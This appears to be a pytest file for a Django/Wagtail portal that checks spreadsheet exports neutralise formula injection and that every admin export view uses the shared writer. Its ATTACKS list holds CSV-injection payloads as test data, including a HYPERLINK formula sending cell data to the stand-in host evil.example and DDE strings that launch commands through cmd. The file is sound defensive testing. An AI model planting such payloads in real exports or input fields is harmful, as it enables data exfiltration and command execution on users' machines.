"""Every spreadsheet export writes formulas as text (portal/exports.py).

Each app's own export paths are attacked with a formula in their tests
(``*/tests/test_export_formulas.py``); this file checks the writer and that every admin view
able to export (the portal's and Wagtail's own, such as form submissions) goes through it.
"""

import csv
import io

from django.urls import URLPattern, URLResolver, get_resolver

from wagtail.admin.views.mixins import SpreadsheetExportMixin

import pytest

from portal import exports

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_formulas_become_text(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "1e5", "王阿姨", "", "a=b", 42, None])
def test_everything_else_is_kept(value):
    assert exports.neutralise(value) == value


def test_csv_bytes_neutralise_every_cell_and_keep_chinese():
    data = exports.csv_bytes([["问题", "答案"], [ATTACKS[0], "-1"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["问题", "答案"], ["'" + ATTACKS[0], "-1"]]


def _view_classes(resolver=None):
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _view_classes(pattern)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is not None:
                yield view_class


def test_every_admin_export_view_neutralises_cells_and_headings():
    from wagtail.contrib.forms.views import SubmissionsListView

    exporting = {cls for cls in _view_classes() if issubclass(cls, SpreadsheetExportMixin)}
    names = {cls.__name__ for cls in exporting}
    assert {"ComplaintIndexView", "FrequentQueriesView", "TargetedNoticeReachView"} <= names
    # Wagtail's form submissions (routed per form page) export what residents typed, too.
    exporting.add(SubmissionsListView)
    for cls in exporting:
        view = cls()
        view.list_export = ["field"]
        view.export_headings = {"field": "=1+1"}
        for fmt in ("csv", "xlsx"):
            assert view.preprocess_field_value("field", ATTACKS[0], fmt) == "'" + ATTACKS[0], cls
        assert view.get_heading(None, "field") == "'=1+1", cls
